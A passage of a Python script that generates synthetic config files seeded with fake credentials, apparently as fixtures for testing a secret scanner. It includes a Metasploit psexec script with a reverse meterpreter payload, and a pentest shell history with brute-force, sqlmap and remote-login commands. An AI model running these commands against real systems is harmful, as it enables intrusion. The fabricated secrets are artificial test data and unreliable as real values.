session = requests.session()
session.headers["Authorization"] = f"Bearer {USERNAME} {AUTOMATION_SECRET}"
session.headers["Accept"] = "application/json"

with open("hosts.csv", newline="") as fh:
    for row in csv.DictReader(fh):
        resp = session.post(
            f"{API_URL}/domain-types/host_config/collections/all",
            params={"bake_agent": False},
            json={"folder": row["folder"], "host_name": row["name"], "attributes": {"ipaddress": row["ip"]}},
        )
        print(row["name"], resp.status_code)

resp = session.post(
    f"{API_URL}/domain-types/activation_run/actions/activate-changes/invoke",
    headers={"If-Match": "*", "Content-Type": "application/json"},
    json={"redirect": False, "sites": [SITE_NAME], "force_foreign_changes": False},
)
print("activation:", resp.status_code)
''', dom=random.choice(['corp.globex.eu', 'acme-retail.net']), sec=R(32, UP + DIG)))

# c26 Uptime Kuma backup export: Telegram bot token inside a JSON string, monitor basic auth
tgcfg = json.dumps({"name": "Telegram ops", "type": "telegram", "isDefault": True,
                    "telegramBotToken": tg_bot(), "telegramChatID": "-100" + num(10),
                    "telegramSendSilently": False, "applyExisting": True})
slcfg = json.dumps({"name": "Slack #status", "type": "slack", "isDefault": False,
                    "slackwebhookURL": slack_hook(), "slackchannel": "#status", "slackusername": "uptime-kuma"})
kuma = {
    "version": "1.23.11",
    "notificationList": [
        {"id": 1, "name": "Telegram ops", "config": tgcfg, "active": 1, "userId": 1, "isDefault": 1},
        {"id": 2, "name": "Slack #status", "config": slcfg, "active": 1, "userId": 1, "isDefault": 0},
    ],
    "monitorList": [
        {"id": 1, "name": "Website", "type": "http", "url": "https://www.northwind.io", "interval": 60,
         "retryInterval": 60, "maxretries": 2, "active": True, "accepted_statuscodes": ["200-299"],
         "authMethod": None, "basic_auth_user": None, "basic_auth_pass": None, "notificationIDList": {"1": True}},
        {"id": 2, "name": "Internal wiki", "type": "http", "url": "https://wiki.northwind.local/login",
         "interval": 120, "retryInterval": 60, "maxretries": 1, "active": True, "accepted_statuscodes": ["200-299"],
         "authMethod": "basic", "basic_auth_user": "kuma", "basic_auth_pass": pw(),
         "notificationIDList": {"1": True, "2": True}},
    ],
}
add('c26/backups/uptime-kuma/Uptime_Kuma_Backup_%s.json' % day().replace('-', '_'), json.dumps(kuma, indent=4))

# c27 Sentry Relay credentials
add('c27/relay/.relay/config.yml', '''relay:
  mode: managed
  upstream: https://sentry.io/
  host: 0.0.0.0
  port: 3000
logging:
  level: info
processing:
  enabled: false
''')
add('c27/relay/.relay/credentials.json', json.dumps({"secret_key": b64u(32), "public_key": b64u(32), "id": u4()}, indent=2) + '\n')

# c28 sentry-cli rc file (user token) + CI workflow with org token
org_tok = g(lambda: 'sntrys_' + base64.b64encode(json.dumps(
    {"iat": float(ts()) + random.random(), "url": "https://sentry.io", "region_url": "https://us.sentry.io",
     "org": "northwind"}, separators=(',', ':')).encode()).decode().rstrip('=') + '_' + R(43, A + '+/'))
add('c28/web/.sentryclirc', t('''[defaults]
url = https://sentry.io/
org = northwind
project = storefront-web

[auth]
token = sntryu_@{u}
''', u=H(64)))
add('c28/web/.github/workflows/release.yml', t('''name: release
on:
  push:
    tags: ['v*']

jobs:
  build:
    runs-on: ubuntu-latest
    env:
      SENTRY_ORG: northwind
      SENTRY_PROJECT: storefront-web
      SENTRY_AUTH_TOKEN: @{tok}
    steps:
      - uses: actions/checkout@v4
      - uses: actions/setup-node@v4
        with:
          node-version: 20
      - run: npm ci && npm run build
      - name: Upload sourcemaps
        run: |
          npx @sentry/cli releases new "$GITHUB_REF_NAME"
          npx @sentry/cli sourcemaps upload --release "$GITHUB_REF_NAME" dist/
          npx @sentry/cli releases finalize "$GITHUB_REF_NAME"
''', tok=org_tok))

# c29 self-hosted Sentry config.yml: system.secret-key and mail password
add('c29/self-hosted/sentry/config.yml', t('''# While a lot of configuration in Sentry can be changed via the UI, for all
# new-style config (as of 8.0) you can also declare values here in this file
# to enforce defaults or to ensure they cannot be changed via the UI.

###############
# Mail Server #
###############
mail.backend: 'smtp'
mail.host: 'email-smtp.eu-west-1.amazonaws.com'
mail.port: 587
mail.username: '@{mu}'
mail.password: '@{mp}'
mail.use-tls: true
mail.from: 'sentry@@{dom}'

###################
# System Settings #
###################
system.secret-key: '@{sk}'
system.url-prefix: 'https://sentry.@{dom}'

################
# File storage #
################
filestore.backend: 'filesystem'
filestore.options:
  location: '/data/files'
dsym.cache-path: '/data/dsym-cache'
releasefile.cache-path: '/data/releasefile-cache'

features:
  - projects:span-metrics-extraction
''', mu=aws_id(), mp='B' + R(43, A + '+/'), dom=random.choice(['northwind.io', 'globex.eu']),
    sk=R(50, LO + DIG + '!@#%^&*(-_=+)')))

# c30 OpenTelemetry collector exporters with vendor headers
add('c30/otel/otel-collector-config.yaml', t('''receivers:
  otlp:
    protocols:
      grpc:
        endpoint: 0.0.0.0:4317
      http:
        endpoint: 0.0.0.0:4318
  hostmetrics:
    collection_interval: 30s
    scrapers:
      cpu: {}
      memory: {}
      filesystem: {}

processors:
  batch:
    timeout: 5s
  memory_limiter:
    check_interval: 1s
    limit_percentage: 75
  resource:
    attributes:
      - key: deployment.environment
        value: production
        action: upsert

exporters:
  otlp/honeycomb:
    endpoint: api.honeycomb.io:443
    headers:
      x-honeycomb-team: @{hc}
  otlphttp/newrelic:
    endpoint: https://otlp.eu01.nr-data.net
    headers:
      api-key: @{nr}
  datadog:
    api:
      site: datadoghq.com
      key: @{dd}

service:
  pipelines:
    traces:
      receivers: [otlp]
      processors: [memory_limiter, resource, batch]
      exporters: [otlp/honeycomb, datadog]
    metrics:
      receivers: [otlp, hostmetrics]
      processors: [memory_limiter, batch]
      exporters: [otlphttp/newrelic]
''', hc=R(22), nr=nr_license(), dd=H(32)))

# c31 OTel collector: Grafana Cloud OTLP with pre-encoded Basic header + Dynatrace API token
inst = num(6)
basic = g(lambda: base64.b64encode(('%s:%s' % (inst, glc(num(6), 'otlp-gateway'))).encode()).decode())
add('c31/platform/otel-gateway/config.yaml', t('''extensions:
  health_check: {}

receivers:
  otlp:
    protocols:
      grpc: {}
      http: {}

processors:
  batch: {}
  k8sattributes: {}

exporters:
  otlphttp/grafana:
    endpoint: https://otlp-gateway-prod-eu-west-2.grafana.net/otlp
    headers:
      Authorization: "Basic @{basic}"
  otlphttp/dynatrace:
    endpoint: https://@{env}.live.dynatrace.com/api/v2/otlp
    headers:
      Authorization: "Api-Token @{dt}"

service:
  extensions: [health_check]
  pipelines:
    traces:
      receivers: [otlp]
      processors: [k8sattributes, batch]
      exporters: [otlphttp/grafana, otlphttp/dynatrace]
    logs:
      receivers: [otlp]
      processors: [batch]
      exporters: [otlphttp/grafana]
''', basic=basic, env=R(8, LO + DIG), dt=dt_tok()))

# c32 restic backup script with AWS keys and repository password
add('c32/ops/backup/restic-backup.sh', t('''#!/usr/bin/env bash
# nightly restic backup of app01 -> S3 (cron: 15 2 * * *)
set -euo pipefail

export AWS_ACCESS_KEY_ID=@{ak}
export AWS_SECRET_ACCESS_KEY=@{sk}
export RESTIC_REPOSITORY="s3:https://s3.eu-west-1.amazonaws.com/@{bucket}/$(hostname -s)"
export RESTIC_PASSWORD='@{rp}'

LOG=/var/log/restic-backup.log
exec >>"$LOG" 2>&1
echo "=== $(date -Is) start"

pg_dump -Fc -U postgres app > /var/backups/app.dump

restic backup \\
  --exclude-caches \\
  --exclude '/var/lib/docker' \\
  --tag nightly \\
  /etc /srv /var/backups

restic forget --keep-daily 7 --keep-weekly 5 --keep-monthly 12 --prune
restic check --read-data-subset=2%

echo "=== $(date -Is) done"
''', ak=aws_id(), sk=aws_secret(), bucket='restic-' + R(6, LO + DIG), rp=pw(28)))

# c33 restic to Backblaze B2 via EnvironmentFile
add('c33/etc/restic/b2.env', t('''# used by restic-backup.service (EnvironmentFile=)
B2_ACCOUNT_ID=@{kid}
B2_ACCOUNT_KEY=@{key}
RESTIC_REPOSITORY=b2:@{bucket}:nas01
RESTIC_PASSWORD=@{rp}
RESTIC_CACHE_DIR=/var/cache/restic
''', kid='005' + H(12) + '000000000' + num(1), key='K005' + R(27, A + '/+'),
    bucket='homelab-' + R(6, LO + DIG), rp=pw()))
add('c33/etc/systemd/system/restic-backup.service', '''[Unit]
Description=restic backup to B2
Wants=network-online.target
After=network-online.target

[Service]
Type=oneshot
EnvironmentFile=/etc/restic/b2.env
ExecStart=/usr/bin/restic backup --verbose --one-file-system --tag systemd.timer /srv /home
ExecStartPost=/usr/bin/restic forget --verbose --tag systemd.timer --group-by "paths,tags" --keep-daily 7 --keep-weekly 4 --keep-monthly 6 --prune
Nice=10
IOSchedulingClass=idle
''')

# c34 borgmatic config with passphrase and postgres password
add('c34/etc/borgmatic/config.yaml', t('''# borgmatic configuration for srv01
source_directories:
    - /etc
    - /home
    - /srv/nextcloud/data
    - /var/lib/docker/volumes

repositories:
    - path: ssh://zh@{acct}@zh@{acct}.rsync.net/./borg/srv01
      label: rsync.net

exclude_patterns:
    - '*.pyc'
    - /home/*/.cache
    - /srv/nextcloud/data/*/cache

encryption_passphrase: "@{pp}"
compression: auto,zstd
ssh_command: ssh -i /root/.ssh/borg_ed25519
archive_name_format: '{hostname}-{now:%Y-%m-%dT%H:%M}'

keep_daily: 7
keep_weekly: 4
keep_monthly: 6

checks:
    - name: repository
      frequency: 2 weeks
    - name: archives
      frequency: 1 month

postgresql_databases:
    - name: nextcloud
      hostname: 127.0.0.1
      username: nextcloud
      password: @{pg}

healthchecks:
    ping_url: https://hc-ping.com/@{hc}
''', acct=num(4), pp=' '.join(g(lambda: r(random.randint(4, 7), LO)) for _ in range(6)), pg=pw(), hc=u4()))

# c35 rclone.conf with S3-compatible keys, obscured passwords and Dropbox OAuth token
drop = json.dumps({"access_token": "sl.B" + R(135, B64URL), "token_type": "bearer",
                   "refresh_token": R(64, B64URL), "expiry": "%sT%02d:%02d:11.%06d+02:00"
                   % (day(), random.randint(0, 23), random.randint(0, 59), random.randint(0, 999999))},
                  separators=(',', ':'))
add('c35/home/backup/.config/rclone/rclone.conf', t('''[wasabi]
type = s3
provider = Wasabi
access_key_id = @{wk}
secret_access_key = @{ws}
region = eu-central-1
endpoint = s3.eu-central-1.wasabisys.com
acl = private

[nas-sftp]
type = sftp
host = nas.home.lan
user = backup
port = 22
pass = @{obs1}
shell_type = unix
md5sum_command = md5sum
sha1sum_command = sha1sum

[dropbox]
type = dropbox
token = @{drop}

[photos-crypt]
type = crypt
remote = wasabi:photos-enc
filename_encryption = standard
directory_name_encryption = true
password = @{obs2}
password2 = @{obs3}
''', wk=R(20, UP + DIG), ws=R(40), obs1=b64u(16 + random.randint(10, 20)), drop=drop,
    obs2=b64u(16 + random.randint(14, 24)), obs3=b64u(16 + random.randint(14, 24))))

# c36 Duplicati exported job: credentials embedded in the target URL and the passphrase setting
ak, sk = aws_id(), aws_secret()
target = ('s3://duplicati-%s/%s?s3-server-name=s3.amazonaws.com&s3-location-constraint=eu-central-1'
          '&s3-storage-class=STANDARD_IA&s3-client=aws&auth-username=%s&auth-password=%s'
          % (R(6, LO + DIG), random.choice(['laptop-jm', 'office-pc3']), ak, urllib.parse.quote(sk, safe='')))
dup = {
    "CreatedByVersion": "2.0.7.1",
    "Schedule": {"ID": 2, "Tags": ["ID=3"], "Time": "%sT01:30:00Z" % day(), "Repeat": "1D", "LastRun": "0001-01-01T00:00:00Z",
                 "Rule": "AllowedWeekDays=Monday,Tuesday,Wednesday,Thursday,Friday", "AllowedDays": None},
    "Backup": {
        "ID": "3", "Name": "Documents to S3", "Description": "", "Tags": [],
        "TargetURL": target,
        "DBPath": "C:\\Users\\jm\\AppData\\Local\\Duplicati\\%s.sqlite" % R(10, UP),
        "Sources": ["C:\\Users\\jm\\Documents\\", "C:\\Users\\jm\\Pictures\\"],
        "Settings": [
            {"Filter": "", "Name": "encryption-module", "Value": "aes", "Argument": None},
            {"Filter": "", "Name": "compression-module", "Value": "zip", "Argument": None},
            {"Filter": "", "Name": "dblock-size", "Value": "50mb", "Argument": None},
            {"Filter": "", "Name": "passphrase", "Value": pw(), "Argument": None},
            {"Filter": "", "Name": "retention-policy", "Value": "1W:1D,4W:1W,12M:1M", "Argument": None},
        ],
        "Filters": [{"Order": 0, "Include": False, "Expression": "*.tmp"}],
        "Metadata": {}, "IsTemporary": False,
    },
    "DisplayNames": {"C:\\Users\\jm\\Documents\\": "My Documents", "C:\\Users\\jm\\Pictures\\": "My Pictures"},
}
add('c36/it/duplicati-exports/Documents-to-S3-duplicati-config.json', json.dumps(dup, indent=2))

# c37 Veeam PowerShell with plaintext credentials
add('c37/scripts/veeam/Add-LinuxRepo.ps1', t('''<#
.SYNOPSIS
  Registers the new hardened Linux repository and kicks off an active full for the SQL jobs.
#>
Import-Module Veeam.Backup.PowerShell -ErrorAction Stop

$VbrServer = "vbr01.corp.local"
$User      = "CORP\\svc_veeam"
$SecPass   = ConvertTo-SecureString "''' '''@{p1}" -AsPlainText -Force
$Cred      = New-Object System.Management.Automation.PSCredential($User, $SecPass)

Connect-VBRServer -Server $VbrServer -Credential $Cred

$linuxCred = Add-VBRCredentials -Type Linux -User "veeamrepo" -Password "''' '''@{p2}" -ElevateToRoot -Description "hardened repo bootstrap"
Add-VBRLinux -Name "repo-hl01.corp.local" -Credentials $linuxCred -Description "Hardened repo"

Add-VBRBackupRepository -Name "HL01-XFS" -Server (Get-VBRServer -Name "repo-hl01.corp.local") `
    -Folder "/mnt/backups/veeam" -Type LinuxLocal -EnableXFSFastClone

Get-VBRJob | Where-Object { $_.Name -like "SQL*" } | ForEach-Object {
    Start-VBRJob -Job $_ -FullBackup -RunAsync
}

Disconnect-VBRServer
''', p1=pw(), p2=pw()))

# c38 Vault server config: AWS KMS auto-unseal keys and Consul storage token
add('c38/vault/config/vault.hcl', t('''ui            = true
cluster_addr  = "https://vault-0.vault.internal:8201"
api_addr      = "https://vault.@{dom}"
disable_mlock = true

listener "tcp" {
  address         = "0.0.0.0:8200"
  tls_cert_file   = "/vault/tls/tls.crt"
  tls_key_file    = "/vault/tls/tls.key"
  tls_min_version = "tls12"
}

storage "consul" {
  address = "127.0.0.1:8500"
  path    = "vault/"
  token   = "@{ct}"
}

seal "awskms" {
  region     = "eu-west-1"
  access_key = "@{ak}"
  secret_key = "@{sk}"
  kms_key_id = "@{kms}"
}

telemetry {
  prometheus_retention_time = "30s"
  disable_hostname          = true
}
''', dom=random.choice(['globex.eu', 'northwind.io']), ct=u4(), ak=aws_id(), sk=aws_secret(), kms=u4()))

# c39 saved `vault operator init` output
keys = '\n'.join('Unseal Key %d: %s' % (i, b64(33)) for i in range(1, 6))
add('c39/infra/vault/init-output-%s.txt' % day(), t('''@{keys}

Initial Root Token: @{root}

Vault initialized with 5 key shares and a key threshold of 3. Please securely
distribute the key shares printed above. When the Vault is re-sealed,
restarted, or stopped, you must supply at least 3 of these keys to unseal it
before it can start servicing requests.

Vault does not store the generated root key. Without at least 3 keys to
reconstruct the root key, Vault will remain permanently sealed!

It is possible to generate new unseal keys, provided you have a quorum of
existing unseal keys shares. See "vault operator rekey" for more information.
''', keys=keys, root=hvs()))
add('c39/infra/vault/README.md', '''# Vault (staging)

Initialised on the first node, output kept next to this file until we move it
to the password manager. Unseal after reboot with `vault operator unseal` x3.
''')

# c40 Consul agent config: gossip key and ACL tokens
add('c40/consul.d/consul.hcl', t('''datacenter = "dc1"
data_dir   = "/opt/consul"
node_name  = "consul-server-@{n}"
server     = true
bootstrap_expect = 3
client_addr = "0.0.0.0"
retry_join  = ["provider=aws tag_key=consul-cluster tag_value=prod"]

encrypt = "@{gossip}"

tls {
  defaults {
    ca_file   = "/etc/consul.d/tls/consul-agent-ca.pem"
    cert_file = "/etc/consul.d/tls/dc1-server-consul-0.pem"
    key_file  = "/etc/consul.d/tls/dc1-server-consul-0-key.pem"
    verify_incoming = true
    verify_outgoing = true
  }
}

acl {
  enabled                  = true
  default_policy           = "deny"
  enable_token_persistence = true
  tokens {
    initial_management = "@{mgmt}"
    agent              = "@{agent}"
  }
}

ui_config {
  enabled = true
}
''', n=random.randint(0, 2), gossip=b64(32), mgmt=u4(), agent=u4()))

# c41 Wazuh manager ossec.conf integrations (VirusTotal key, Slack hook)
add('c41/wazuh/manager/ossec.conf', t('''<ossec_config>
  <global>
    <jsonout_output>yes</jsonout_output>
    <alerts_log>yes</alerts_log>
    <logall>no</logall>
    <email_notification>no</email_notification>
    <smtp_server>smtp.corp.local</smtp_server>
    <email_from>wazuh@corp.local</email_from>
    <email_to>soc@corp.local</email_to>
  </global>

  <alerts>
    <log_alert_level>3</log_alert_level>
    <email_alert_level>12</email_alert_level>
  </alerts>

  <integration>
    <name>virustotal</name>
    <api_key>@{vt}</api_key>
    <group>syscheck</group>
    <alert_format>json</alert_format>
  </integration>

  <integration>
    <name>slack</name>
    <hook_url>@{slack}</hook_url>
    <level>10</level>
    <alert_format>json</alert_format>
  </integration>

  <remote>
    <connection>secure</connection>
    <port>1514</port>
    <protocol>tcp</protocol>
    <queue_size>131072</queue_size>
  </remote>
</ossec_config>
''', vt=H(64), slack=slack_hook()))

# c42 Wazuh enrollment password and agent keys
add('c42/wazuh/etc/authd.pass', pw() + '\n')
add('c42/wazuh/etc/client.keys', ''.join('%03d %s any %s\n' % (i, h, H(64)) for i, h in
                                          enumerate(['web-01', 'web-02', 'db-01', 'bastion'], start=1)))
add('c42/wazuh/README.md', '''Agent enrollment: agents use the password in authd.pass
(`<authorization_pass_path>etc/authd.pass</authorization_pass_path>`).
client.keys was copied from the old manager during the migration.
''')

# c43 suricata-update with ET Pro secret code and Snort oinkcode
add('c43/etc/suricata/update.yaml', t('''# Configuration with disable filters.
disable-conf: /etc/suricata/disable.conf
enable-conf: /etc/suricata/enable.conf
drop-conf: /etc/suricata/drop.conf
modify-conf: /etc/suricata/modify.conf

ignore:
  - "*deleted.rules"

reload-command: suricatasc -c ruleset-reload-nonblocking

sources:
  - https://www.snort.org/rules/snortrules-snapshot-31470.tar.gz?oinkcode=@{oink}

local:
  - /etc/suricata/rules/local.rules
''', oink=H(40)))
add('c43/var/lib/suricata/update/sources/et-pro.yaml', t('''source: et/pro
params:
  secret-code: @{et}
''', et=H(16)))

# c44 Metasploit resource script with domain credentials + msf database.yml
add('c44/engagement/acme-internal/post.rc', t('''# ACME internal pentest - day 3
# creds for svc_backup recovered from \\\\fs01\\it$\\scripts\\backup.bat
workspace -a acme_internal
setg RHOSTS 10.20.0.0/24
setg SMBDomain ACMECORP
setg SMBUser svc_backup
setg SMBPass @{smb}
setg THREADS 16

use auxiliary/scanner/smb/smb_login
set STOP_ON_SUCCESS false
run

use auxiliary/scanner/smb/smb_enumshares
run

use exploit/windows/smb/psexec
set RHOSTS @{tgt}
set PAYLOAD windows/x64/meterpreter/reverse_https
set LHOST @{lh}
set LPORT 8443
exploit -j -z
''', smb=pw(), tgt=ip10(), lh=ip10()))
add('c44/engagement/acme-internal/.msf4/database.yml', t('''production:
  adapter: postgresql
  database: msf
  username: msf
  password: @{dbp}
  host: 127.0.0.1
  port: 5432
  pool: 5
  timeout: 5
''', dbp=b64(32)))

# c45 pentester zsh history with credentials on the command line
t0 = ts()
hist = [
    'cd ~/engagements/bankone',
    'nmap -sC -sV -oA nmap/full -p- 10.50.1.0/24',
    'shodan init %s' % R(32),
    'shodan search --fields ip_str,port,org "ssl.cert.subject.cn:bankone.io"',
    'wpscan --url https://blog.bankone.io --enumerate vp,vt,u --api-token %s' % R(43),
    'hydra -l admin -P /usr/share/wordlists/rockyou.txt -t 4 ssh://10.50.1.23',
    "sqlmap -u 'https://staging-api.bankone.io/v1/accounts?id=2' --auth-type=Basic --auth-cred='qa-audit:%s' --batch --level 3 --risk 2" % upw(),
    "crackmapexec smb 10.50.1.0/24 -u Administrator -p '%s' --local-auth" % pw(),
    "evil-winrm -i 10.50.1.40 -u 'BANKONE\\svc_sql' -p '%s'" % pw(),
    'cat loot/hashes.txt | wc -l',
]
add('c45/home/kali/.zsh_history', ''.join(': %d:0;%s\n' % (t0 + i * random.randint(20, 400), c) for i, c in enumerate(hist)))

# ---------------------------------------------------------------- negatives

# v01 Prometheus with credentials read from files
add('v01/deploy/prometheus/prometheus.yml', '''global:
  scrape_interval: 30s
  evaluation_interval: 30s
  external_labels:
    cluster: eu-prod-1

scrape_configs:
  - job_name: node
    scheme: https
    tls_config:
      ca_file: /etc/prometheus/certs/ca.pem
    basic_auth:
      username: prometheus
      password_file: /etc/prometheus/secrets/node-exporter-password
    file_sd_configs:
      - files: ['/etc/prometheus/targets/node_*.json']

  - job_name: kubernetes-apiservers
    kubernetes_sd_configs:
      - role: endpoints
    scheme: https
    tls_config:
      ca_file: /var/run/secrets/kubernetes.io/serviceaccount/ca.crt
    bearer_token_file: /var/run/secrets/kubernetes.io/serviceaccount/token
    relabel_configs:
      - source_labels: [__meta_kubernetes_namespace, __meta_kubernetes_service_name]
        action: keep
        regex: default;kubernetes

  - job_name: federate-edge
    honor_labels: true
    metrics_path: /federate
    params:
      'match[]': ['{job=~"node|haproxy"}']
    authorization:
      type: Bearer
      credentials_file: /etc/prometheus/secrets/edge-federation-token
    static_configs:
      - targets: ['edge-prom.northwind.io:443']
    scheme: https

remote_write:
  - url: https://metrics.northwind.io/api/v1/write
    oauth2:
      client_id: prometheus-eu-prod-1
      client_secret_file: /etc/prometheus/secrets/oauth-client-secret
      token_url: https://sso.northwind.io/realms/infra/protocol/openid-connect/token
''')

# v02 Alertmanager template rendered by envsubst, plus *_file fields
add('v02/monitoring/alertmanager/alertmanager.yml.tmpl', '''# Rendered at container start:  envsubst < alertmanager.yml.tmpl > /etc/alertmanager/alertmanager.yml
# Slack URLs look like https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX
# - never paste the real one here, it lives in the SLACK_WEBHOOK_URL secret.
global:
  resolve_timeout: 5m
  smtp_smarthost: 'smtp.office365.com:587'
  smtp_from: 'alerts@acme-retail.net'
  smtp_auth_username: 'alerts@acme-retail.net'
  smtp_auth_password_file: /etc/alertmanager/secrets/smtp-password
  slack_api_url: '${SLACK_WEBHOOK_URL}'

route:
  receiver: slack-default
  group_by: ['alertname', 'cluster']
  routes:
    - matchers: [severity = "critical"]
      receiver: pagerduty-oncall
    - matchers: [team = "platform"]
      receiver: opsgenie

receivers:
  - name: slack-default
    slack_configs:
      - channel: '#alerts-prod'
        send_resolved: true

  - name: pagerduty-oncall
    pagerduty_configs:
      - routing_key_file: /etc/alertmanager/secrets/pagerduty-routing-key
        severity: '{{ .CommonLabels.severity }}'

  - name: opsgenie
    opsgenie_configs:
      - api_key: '${OPSGENIE_API_KEY}'
        tags: 'k8s,prod'

  - name: telegram
    telegram_configs:
      - bot_token_file: /etc/alertmanager/secrets/telegram-bot-token
        chat_id: -1001234567890
''')

# v03 Grafana provisioning with $__env / $__file expansion
add('v03/grafana/provisioning/datasources/datasources.yaml', '''apiVersion: 1

datasources:
  - name: Orders DB
    type: postgres
    url: pg-replica.int.acme-retail.net:5432
    user: grafana_ro
    jsonData:
      database: orders
      sslmode: require
    secureJsonData:
      password: $__env{ORDERS_DB_PASSWORD}

  - name: InfluxDB IoT
    type: influxdb
    access: proxy
    url: https://influx.int.acme-retail.net:8086
    jsonData:
      version: Flux
      organization: plant-ops
      defaultBucket: sensors
    secureJsonData:
      token: $__file{/run/secrets/influx_grafana_token}

  - name: Elasticsearch logs
    type: elasticsearch
    url: https://es.int.acme-retail.net:9200
    basicAuth: true
    basicAuthUser: grafana
    jsonData:
      index: 'logs-*'
      timeField: '@timestamp'
    secureJsonData:
      basicAuthPassword: ${ES_GRAFANA_PASSWORD}
''')
add('v03/grafana/grafana.ini', '''[security]
admin_user = ops
admin_password = $__file{/run/secrets/grafana_admin_password}
secret_key = $__env{GF_SECRET_KEY}

[auth.generic_oauth]
enabled = true
client_id = grafana
client_secret = $__file{/run/secrets/keycloak_client_secret}

[smtp]
enabled = true
host = smtp.sendgrid.net:587
user = apikey
password = $__env{SENDGRID_API_KEY}
''')

# v04 Fluent Bit Helm chart templates with values/env references
add('v04/charts/log-shipper/templates/configmap.yaml', '''apiVersion: v1
kind: ConfigMap
metadata:
  name: {{ include "log-shipper.fullname" . }}
  labels:
    {{- include "log-shipper.labels" . | nindent 4 }}
data:
  fluent-bit.conf: |
    [SERVICE]
        Flush         5
        Log_Level     {{ .Values.logLevel }}
        HTTP_Server   On

    [INPUT]
        Name              tail
        Tag               kube.*
        Path              /var/log/containers/*.log
        multiline.parser  docker, cri

    [OUTPUT]
        Name            splunk
        Match           kube.*
        Host            {{ .Values.splunk.host }}
        Port            8088
        TLS             On
        Splunk_Token    ${SPLUNK_HEC_TOKEN}

    [OUTPUT]
        Name        datadog
        Match       kube.var.log.containers.payments*
        Host        http-intake.logs.datadoghq.eu
        TLS         on
        apikey      ${DD_API_KEY}
''')
add('v04/charts/log-shipper/templates/daemonset-env.yaml', '''          env:
            - name: SPLUNK_HEC_TOKEN
              valueFrom:
                secretKeyRef:
                  name: {{ .Values.splunk.existingSecret }}
                  key: hec-token
            - name: DD_API_KEY
              valueFrom:
                secretKeyRef:
                  name: {{ .Values.datadog.existingSecret | default "datadog-api" }}
                  key: api-key
''')
add('v04/charts/log-shipper/values.yaml', '''logLevel: info
splunk:
  host: hec.splunk.acme-retail.net
  # name of a Secret holding key "hec-token"; create it with
  #   kubectl create secret generic splunk-hec --from-literal=hec-token=<token>
  existingSecret: splunk-hec
datadog:
  existingSecret: ""
''')

# v05 Vault / Consul runbook: only accessors, IDs and redacted output
add('v05/docs/runbooks/vault-token-rotation.md', t('''# Rotating the CI Vault token

1. Log in with your own identity, never with the root token:

   ```sh
   export VAULT_ADDR=https://vault.globex.eu
   export VAULT_TOKEN="$(vault login -method=oidc -token-only role=ops)"
   ```

2. Find the old token by accessor (accessors can be shared, they cannot be used to authenticate):

   ```
   $ vault token lookup -accessor @{acc1}
   Key                 Value
   ---                 -----
   accessor            @{acc1}
   creation_time       @{ct}
   display_name        approle-ci-runner
   entity_id           @{ent}
   id                  n/a
   policies            [default ci-read]
   ttl                 71h58m12s
   ```

3. Revoke it: `vault token revoke -accessor @{acc1}`

4. Consul side: list tokens and check the SecretID is not shown to you

   ```
   $ consul acl token list -policy-name ci-read
   AccessorID:       @{cacc}
   SecretID:         <hidden>
   Description:      ci runner
   Local:            false
   Create Time:      @{d} 10:12:44.123456 +0000 UTC
   Policies:
      @{pol} - ci-read
   ```

The new token is written by the pipeline to `secret/ci/vault-token`; read it with
`vault kv get -field=token secret/ci/vault-token` if needed. Root token: stored in
the offline safe, shown in our docs only as `hvs.************************`.
''', acc1=R(24), ct=ts(), ent=u4(), cacc=u4(), d=day(), pol=u4()))

# v06 restic with password file / pass, log output with snapshot IDs, borg authorized_keys with public key
snap = H(64)
add('v06/ops/backup/restic-backup.sh', '''#!/usr/bin/env bash
# nightly restic backup of app01 -> S3 (cron: 15 2 * * *)
set -euo pipefail

export AWS_ACCESS_KEY_ID="$(pass show infra/restic/aws-access-key-id)"
export AWS_SECRET_ACCESS_KEY="$(pass show infra/restic/aws-secret-access-key)"
export RESTIC_REPOSITORY="s3:https://s3.eu-west-1.amazonaws.com/restic-backups/$(hostname -s)"
export RESTIC_PASSWORD_FILE=/etc/restic/repo.pass   # root:root 0400, provisioned by ansible-vault

restic backup --exclude-caches --tag nightly /etc /srv /var/backups
restic forget --keep-daily 7 --keep-weekly 5 --keep-monthly 12 --prune
''')
add('v06/ops/backup/last-run.log', t('''open repository
repository @{repo} opened (version 2, compression level auto)
using parent snapshot @{parent}
Files:         112 new,   840 changed, 51233 unmodified
Dirs:           14 new,   102 changed,  8120 unmodified
Added to the repository: 1.204 GiB (398.772 MiB stored)
processed 52185 files, 41.882 GiB in 2:41
snapshot @{short} saved
ID        Time                 Host   Tags     Paths
@{short}  @{d} 02:15:03  app01  nightly  /etc /srv /var/backups
full id: @{snap}
''', repo=H(10), parent=H(8), short=snap[:8], d=day(), snap=snap))
edpub = base64.b64encode(b'\x00\x00\x00\x0bssh-ed25519\x00\x00\x00\x20' + rb(32)).decode()
add('v06/ops/backup/borg-server-authorized_keys', t('''# borg server: each client may only reach its own repo, append-only
command="borg serve --append-only --restrict-to-path /srv/borg/app01",restrict ssh-ed25519 @{k} root@app01
''', k=edpub))

# v07 Sentry browser SDK DSN (public by design) + release commit SHA + CI secret reference
add('v07/web/src/sentry.ts', t('''import * as Sentry from "@sentry/browser";

// The DSN is public by design: it only allows sending events to this project.
Sentry.init({
  dsn: "https://@{pub}@o@{org}.ingest.us.sentry.io/@{proj}",
  release: "storefront-web@@{sha}",
  environment: import.meta.env.MODE,
  integrations: [Sentry.browserTracingIntegration()],
  tracesSampleRate: 0.1,
});
''', pub=H(32), org=num(6), proj=num(7), sha=H(40)))
add('v07/web/.github/workflows/release.yml', '''name: release
on:
  push:
    tags: ['v*']

jobs:
  build:
    runs-on: ubuntu-latest
    env:
      SENTRY_ORG: northwind
      SENTRY_PROJECT: storefront-web
      SENTRY_AUTH_TOKEN: ${{ secrets.SENTRY_AUTH_TOKEN }}
    steps:
      - uses: actions/checkout@v4
      - run: npm ci && npm run build
      - run: npx @sentry/cli sourcemaps upload --release "$GITHUB_REF_NAME" dist/
''')
add('v07/web/.sentryclirc', '''[defaults]
url = https://sentry.io/
org = northwind
project = storefront-web

# [auth] token comes from SENTRY_AUTH_TOKEN (CI secret / your shell), don't add it here
''')

# v08 Wazuh FIM alerts (file hashes) + integration docs with placeholders
alerts = []
for f in ['/etc/passwd', '/usr/bin/sudo', '/etc/ssh/sshd_config']:
    alerts.append(json.dumps({
        "timestamp": "%sT%02d:%02d:%02d.000+0000" % (day(), random.randint(0, 23), random.randint(0, 59), random.randint(0, 59)),
        "rule": {"level": 7, "description": "Integrity checksum changed.", "id": "550", "groups": ["ossec", "syscheck"]},
